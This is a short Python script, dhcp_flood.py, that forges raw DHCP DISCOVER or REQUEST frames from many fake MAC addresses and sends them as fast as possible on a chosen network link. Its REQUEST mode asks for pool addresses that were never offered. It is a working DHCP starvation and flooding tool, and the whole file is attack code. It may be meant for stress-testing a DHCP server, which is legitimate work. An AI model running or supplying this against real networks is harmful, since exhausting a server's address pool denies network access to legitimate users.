"""Sends DHCP messages of many stations as fast as it can: dhcp_flood.py LINK COUNT [discover|request]."""
import socket
import struct
import sys

from checksum import checksum


def frame(number, kind):
    mac = b"\x02\x66" + struct.pack("!I", number)
    message = struct.pack("!BBBBIHHIIII", 1, 1, 6, 0, number, 0, 0x8000, 0, 0, 0, 0) + mac + bytes(10 + 64 + 128)
    message += b"\x63\x82\x53\x63\x35\x01" + (b"\x01" if kind == "discover" else b"\x03")
    if kind == "request":
        # An address of the pool that the station has never been offered.
        message += b"\x32\x04" + socket.inet_aton("192.168.77.%d" % (2 + number % 250)) + b"\x36\x04\xc0\xa8\x4d\x01"
    message += b"\xff"
    message += bytes(300 - len(message))
    udp = struct.pack("!HHHH", 68, 67, 8 + len(message), 0) + message
    header = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, 0, 0xFFFFFFFF)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + header + udp


def main():
    link, count, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3] if len(sys.argv) > 3 else "discover"
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((link, 0))
    sent = 0
    for number in range(count):
        try:
            raw.send(frame(number, kind))
            sent += 1
        except OSError:
            pass
    print("sent", sent)


main()
